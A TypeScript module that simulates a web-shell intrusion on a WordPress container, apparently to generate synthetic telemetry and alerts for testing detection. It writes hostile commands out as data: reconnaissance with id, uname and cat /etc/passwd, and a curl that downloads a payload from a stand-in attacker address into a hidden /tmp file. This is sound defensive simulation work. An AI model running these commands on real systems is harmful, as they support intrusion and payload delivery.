import type { AttackRecord } from '../attack-record.ts';
import type { LinuxHost } from '../linux/linux-host.ts';
import type { LinuxProcess } from '../linux/linux-process.ts';
import { WWW } from '../linux/linux-services.ts';
import { SHELL_STARTED, UNUSUAL_FILE } from '../linux/sensor-rules.ts';
import type { Stage } from '../simulated-host.ts';
import type { SimulatedTime } from '../simulated-time.ts';
import { noteProcess } from './note-process.ts';
import { attackerAddress, attackName } from './scenario.ts';

const NAMES = ['cache', 'thumb', 'style', 'wp-tmp'];
const HUNT = 'web-shell';

/**
 * A web shell in a blog, SysFlow, container `blog`, user www-data. Planted, in this order:
 *
 * - the php-fpm master clones a worker of its own for it (name `php-fpm`);
 * - which writes `/var/www/html/wp-content/uploads/NAME.php` (file-access-write; alert copy "Webserver writing unusual file");
 * - some seconds later, request by request, each served by that worker (a connection accepted from 203.0.113.x at port 9000):
 *   1. `/bin/sh -c cd /var/www/html; id; hostname`: the shell starts `/usr/bin/id` as a child and becomes
 *      `/usr/bin/hostname` itself;
 *   2. `/bin/sh -c uname -a`, `/bin/sh -c cat /etc/passwd` (reads that file): the shell becomes the command (exec twice in
 *      one process);
 *   3. `/bin/sh -c curl -s -o /tmp/.NAME http://203.0.113.x/NAME`: becomes curl, connects to 203.0.113.x:80 and writes
 *      `/tmp/.NAME`;
 * - at the end the worker exits.
 *
 * One alert of `web-shell`, keyed by the pid of the worker (the parent of the shells).
 */
export function webShell(attack: AttackRecord, host: LinuxHost, now: SimulatedTime, stage: Stage): void {
  const { process: master } = host.services.php;
  const container = master.place.container?.id ?? '';
  const name = attackName(stage, NAMES);
  const external = attackerAddress(stage);
  const upload = `/var/www/html/wp-content/uploads/${name}.php`;
  const { process: worker, records, ready } = host.clone(master, now, { user: WWW });
  attack.records(ready, ...records, host.accept(worker, ready + 2, external, 9000));
  attack.records(ready, ...host.write(worker, ready + 9, upload, 2840, UNUSUAL_FILE));
  noteProcess(attack, host, 'web-server', worker);
  attack.entity(host, { role: 'web-shell', type: 'file', path: upload, container });
  let at = now + stage.random.int(3000, 8000);
  const request = (command: string, become: (process: LinuxProcess, then: SimulatedTime) => void): void => {
    stage.plan(at, (then) => {
      attack.records(then, host.accept(worker, then, external, 9000), host.read(worker, then + 1, upload));
      const shell = host.start(worker, then + 4, '/bin/sh', `-c ${command}`, { alert: SHELL_STARTED });
      attack.records(shell.ready, ...shell.records);
      noteProcess(attack, host, 'shell', shell.process);
      stage.plan(shell.ready + 2, (ready) => become(shell.process, ready));
    });
    at += stage.random.int(1500, 4500);
  };
  const becomes = (process: LinuxProcess, then: SimulatedTime, executable: string, args: string): void => {
    attack.records(then, ...host.exec(process, then, executable, args));
    attack.alert(HUNT, host, worker.pid, then);
  };
  request('cd /var/www/html; id; hostname', (shell, then) => {
    const id = host.start(shell, then, '/usr/bin/id', '');
    attack.records(id.ready, ...id.records, host.exit(id.process, id.ready + 3));
    noteProcess(attack, host, 'action', id.process);
    becomes(shell, id.ready + 4, '/usr/bin/hostname', '');
    attack.records(then, host.exit(shell, id.ready + 7));
  });
  request('uname -a', (shell, then) => {
    becomes(shell, then, '/usr/bin/uname', '-a');
    attack.records(then, host.exit(shell, then + 3));
  });
  request('cat /etc/passwd', (shell, then) => {
    becomes(shell, then, '/usr/bin/cat', '/etc/passwd');
    attack.records(then, host.read(shell, then + 1, '/etc/passwd', 1412), host.exit(shell, then + 4));
  });
  request(`curl -s -o /tmp/.${name} http://${external}/${name}`, (shell, then) => {
    becomes(shell, then, '/usr/bin/curl', `-s -o /tmp/.${name} http://${external}/${name}`);
    attack.records(then, host.connect(shell, then + 20, external, 80));
    attack.records(then, ...host.write(shell, then + 90, `/tmp/.${name}`, 48_200));
    attack.records(then, host.exit(shell, then + 140));
    attack.entity(host, { role: 'destination', type: 'ipv4-addr', value: external, port: 80, connections: 1 });
  });
  stage.plan(at + 800, (end) => {
    attack.records(end, host.exit(worker, end));
    attack.end(end);
  });
}
